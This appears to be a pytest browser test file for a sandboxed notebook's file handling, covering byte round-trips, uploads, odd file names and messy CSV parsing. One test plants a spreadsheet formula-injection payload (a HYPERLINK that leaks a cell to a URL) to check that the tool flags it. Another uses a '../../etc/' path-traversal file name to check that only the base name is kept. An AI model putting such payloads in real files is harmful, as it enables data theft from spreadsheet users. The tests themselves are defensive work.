"""Files in the sandbox in a real browser: bytes in and out, files a cell writes, odd
names, uploads (bytes and File objects), and real messy uploads (tests/data), each
inspected or explained and read to the shape inspect reported.

Files under /data persist for the whole session, so each test uses its own names.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from support import TEST_DATA

from .helpers import (
    call,
    ok,
    page_call,
    read_file,
    run,
    upload_bytes,
    upload_file_object,
    write_file,
)

pytestmark = pytest.mark.browser


# Files ----------------------------------------------------------------------------------


def test_write_then_read_gives_back_every_byte_value(reckon: Any) -> None:
    data = bytes(range(256)) * 4
    reply = write_file(reckon, "/data/every-byte.bin", data)
    assert reply["status"] == "ok", reply
    assert reply["size"] == len(data)
    assert read_file(reckon, "/data/every-byte.bin") == data
    # Python in the sandbox sees the same bytes.
    code = "open('/data/every-byte.bin', 'rb').read() == bytes(range(256)) * 4"
    assert ok(run(reckon, code))["result"]["text"] == "True"


def test_a_file_written_by_a_cell_is_reported_and_readable(reckon: Any) -> None:
    call(reckon, "deleteFile", "/output/result.csv")  # left over from an earlier run, if any
    code = (
        "import pandas as pd\n"
        "pd.DataFrame({'a': [1, 2], 'b': ['x', 'y']}).to_csv('/output/result.csv', index=False)"
    )
    result = ok(run(reckon, code))
    entries = [f for f in result["files"] if f["path"] == "/output/result.csv"]
    assert len(entries) == 1, result["files"]
    assert entries[0]["change"] == "created"
    content = read_file(reckon, "/output/result.csv")
    assert entries[0]["size"] == len(content)
    assert content.decode().splitlines() == ["a,b", "1,x", "2,y"]
    # Writing it again is a modification.
    again = ok(run(reckon, code.replace("[1, 2]", "[3, 4]")))
    assert [(f["path"], f["change"]) for f in again["files"]] == [
        ("/output/result.csv", "modified")
    ]
    listed = call(reckon, "listFiles", "/output")
    assert "/output/result.csv" in [f["path"] for f in listed]


def test_a_written_spreadsheet_that_keeps_an_uploads_formulas_says_so(reckon: Any) -> None:
    # Issue 32, U1: a formula from an upload stays live in Excel when a cell writes it
    # out again; the run result names it (files[].formulas and a stderr line), through
    # window.reckon, and the file is left as the cell wrote it.
    hostile = '=HYPERLINK("http://127.0.0.1:9/leak?d="&B2,"Open")'
    upload = "name,change\n" + '"' + hostile.replace('"', '""') + '",-12.5\nBo,+3%\n'
    assert upload_bytes(reckon, "formulas.csv", upload.encode())["status"] == "ok"
    code = (
        "df = read_table('/data/formulas.csv')\n"
        "df.to_csv('/output/formulas-out.csv', index=False)\n"
        "df.to_excel('/output/formulas-out.xlsx', index=False)"
    )
    result = ok(run(reckon, code))
    flagged = {f["path"]: f.get("formulas") for f in result["files"]}
    assert flagged["/output/formulas-out.csv"] == {
        "count": 1, "first": 'line 2: =HYPERLINK(""http://127.0.0.1:9/leak?d="…', "checked": True
    }  # fmt: skip
    assert flagged["/output/formulas-out.xlsx"]["first"] == "sheet 1, A2"
    assert result["stderr"].count("[reckon] /output/formulas-out.") == 2
    assert hostile.replace('"', '""') in read_file(reckon, "/output/formulas-out.csv").decode()


def test_reading_a_missing_file_is_an_error(reckon: Any) -> None:
    body = """
      try { await window.reckon.readFile("/data/no such file.csv"); return "read"; }
      catch (err) { return String(err.message); }
    """
    message = page_call(reckon, body)
    assert message != "read"
    assert "no such file" in message


ODD_NAMES = ["ventes 2024 =+ é.csv", "Ünïcødé 数据 (copie).csv", "a+b=c & d's.csv"]


@pytest.mark.parametrize("name", ODD_NAMES)
def test_odd_file_names_work_everywhere(reckon: Any, name: str) -> None:
    text = "mois,ventes\njanvier,10\nfévrier,12\nmars,9\n"
    path = f"/data/{name}"
    assert write_file(reckon, path, text.encode())["status"] == "ok"
    listed = call(reckon, "listFiles", "/data")
    entries = [f for f in listed if f["name"] == name]
    assert len(entries) == 1, [f["name"] for f in listed]
    assert entries[0]["path"] == path
    assert entries[0]["size"] == len(text.encode())
    assert read_file(reckon, path).decode() == text
    code = (
        f"import pandas as pd\ndf = pd.read_csv({path!r})\n"
        f"df.to_csv({'/output/' + name!r}, index=False)\n"
        "(df.shape, df['ventes'].sum(), df['mois'][1])"
    )
    result = ok(run(reckon, code))
    assert result["result"]["text"] == "((3, 2), np.int64(31), 'février')"
    assert f"/output/{name}" in [f["path"] for f in result["files"]]
    assert read_file(reckon, f"/output/{name}").decode() == text
    inspected = call(reckon, "inspect", path)
    assert inspected["status"] == "ok", inspected
    assert inspected["rows"] == 3


# Uploads ----------------------------------------------------------------------------------

# What a French spreadsheet exports: cp1252, ';' between fields, decimal commas.
SALES_CSV = "région;units;price\nNîmes;4;2,5\nsud;7;3,0\nest;1;9,75\n".encode("cp1252")


def _check_sales_upload(reckon: Any, info: dict[str, Any], name: str) -> None:
    assert info["status"] == "ok", info
    assert info["path"] == f"/data/{name}"
    assert info["size"] == len(SALES_CSV)
    assert info["kind"] == "table"
    assert info["rows"] == 3
    assert info["columns"] == [
        {"name": "région", "dtype": "object"},
        {"name": "units", "dtype": "int64"},
        {"name": "price", "dtype": "float64"},
    ]
    check = "(df.shape, df['région'][0], float(df['price'].sum()))"
    expected = "((3, 3), 'Nîmes', 15.25)"
    code = f"df = read_table({info['path']!r})\n{check}"
    assert ok(run(reckon, code))["result"]["text"] == expected
    # The call inspect suggests (for the model's code) reads it the same way.
    code = f"import pandas as pd\ndf = {info['read_with']}\n{check}"
    assert ok(run(reckon, code))["result"]["text"] == expected


def test_upload_bytes_then_read_in_a_cell(reckon: Any) -> None:
    name = "ventes sud =+ é.csv"
    _check_sales_upload(reckon, upload_bytes(reckon, name, SALES_CSV), name)


def test_upload_a_file_object_then_read_in_a_cell(reckon: Any) -> None:
    name = "ventes fichier =+ é.csv"
    _check_sales_upload(reckon, upload_file_object(reckon, name, SALES_CSV), name)
    assert read_file(reckon, f"/data/{name}") == SALES_CSV


def test_upload_keeps_only_the_base_name(reckon: Any) -> None:
    info = upload_bytes(reckon, "../../etc/sneaky.csv", b"a,b\n1,2\n")
    assert info["status"] == "ok", info
    assert info["path"] == "/data/sneaky.csv"


# Real messy uploads -------------------------------------------------------------------

MESSY_FILES = sorted(
    p
    for p in [*(TEST_DATA / "csv-spectrum" / "csvs").iterdir(), *(TEST_DATA / "messy").iterdir()]
    if p.name != "LICENSE"
)


def _upload_name(source: Path) -> str:
    return f"{source.parent.name}-{source.name}"


def _column_count(info: dict[str, Any]) -> int:
    """How many columns inspect found: it lists at most 50 and says so in a note."""
    for note in info.get("notes", []):
        if found := re.match(r"(\d+) columns; only the first (\d+) are listed", note):
            assert len(info["columns"]) == int(found[2])
            return int(found[1])
    return len(info["columns"])


@pytest.mark.parametrize(
    "source", MESSY_FILES, ids=[p.relative_to(TEST_DATA).as_posix() for p in MESSY_FILES]
)
def test_messy_upload_is_inspected_or_explained(reckon: Any, source: Path) -> None:
    name = _upload_name(source)
    info = upload_bytes(reckon, name, source.read_bytes())
    assert info["path"] == f"/data/{name}"
    assert info["size"] == source.stat().st_size
    assert info["status"] in ("ok", "error"), info
    if info["status"] == "error":
        assert isinstance(info["message"], str)
        assert info["message"].strip(), info
        return
    assert info["kind"] in ("table", "text"), info
    if info["kind"] == "table":
        assert info["rows"] >= 0
        assert all(isinstance(c["name"], str) and c["dtype"] for c in info["columns"]), info
        # The suggested call really reads it, to the shape inspect reported.
        code = f"import pandas as pd\n({info['read_with']}).shape"
        shape = (info["rows"], _column_count(info))
        assert ok(run(reckon, code))["result"]["text"] == repr(shape)


def test_the_sandbox_works_after_all_messy_uploads(reckon: Any) -> None:
    present = {f["name"] for f in call(reckon, "listFiles", "/data")}
    for source in MESSY_FILES:  # normally all there already, from the test above
        if _upload_name(source) not in present:
            upload_bytes(reckon, _upload_name(source), source.read_bytes())
    present = {f["name"] for f in call(reckon, "listFiles", "/data")}
    assert {_upload_name(p) for p in MESSY_FILES} <= present
    assert ok(run(reckon, "sum(range(10))"))["result"]["text"] == "45"


KNOWN_SHAPES = {
    "messy/simple.csv": (6, 3),
    "messy/simple.xlsx": (6, 3),
    "messy/simple.xls": (6, 3),
    "messy/simple.ssv": (6, 3),
    "messy/simple.psv": (28, 6),
    "messy/simple.zip": (6, 3),
    "messy/example.tsv": (140, 17),
    "csv-spectrum/csvs/simple.csv": (1, 3),
}


@pytest.mark.parametrize(("relative", "shape"), KNOWN_SHAPES.items(), ids=KNOWN_SHAPES.keys())
def test_read_table_gives_the_known_shape(
    reckon: Any, relative: str, shape: tuple[int, int]
) -> None:
    source = TEST_DATA / relative
    name = f"known-{source.parent.name}-{source.name}"
    info = upload_bytes(reckon, name, source.read_bytes())
    assert info["status"] == "ok", info
    assert (info["rows"], len(info["columns"])) == shape
    result = ok(run(reckon, f"read_table({info['path']!r}).shape"))
    assert result["result"]["text"] == repr(shape)


CSV_SPECTRUM = sorted((TEST_DATA / "csv-spectrum" / "csvs").glob("*.csv"))


@pytest.mark.parametrize("source", CSV_SPECTRUM, ids=[p.name for p in CSV_SPECTRUM])
def test_read_table_matches_the_csv_spectrum_rows(reckon: Any, source: Path) -> None:
    """Each csv-spectrum file must parse to the rows its json/ twin lists (as text)."""
    expected = json.loads((source.parent.parent / "json" / f"{source.stem}.json").read_text())
    name = f"spectrum-{source.name}"
    assert upload_bytes(reckon, name, source.read_bytes())["status"] == "ok"
    code = (
        "import json\n"
        f"df = read_table('/data/{name}', dtype=str, keep_default_na=False)\n"
        "print(json.dumps(df.to_dict('records')))"
    )
    assert json.loads(ok(run(reckon, code))["stdout"]) == expected
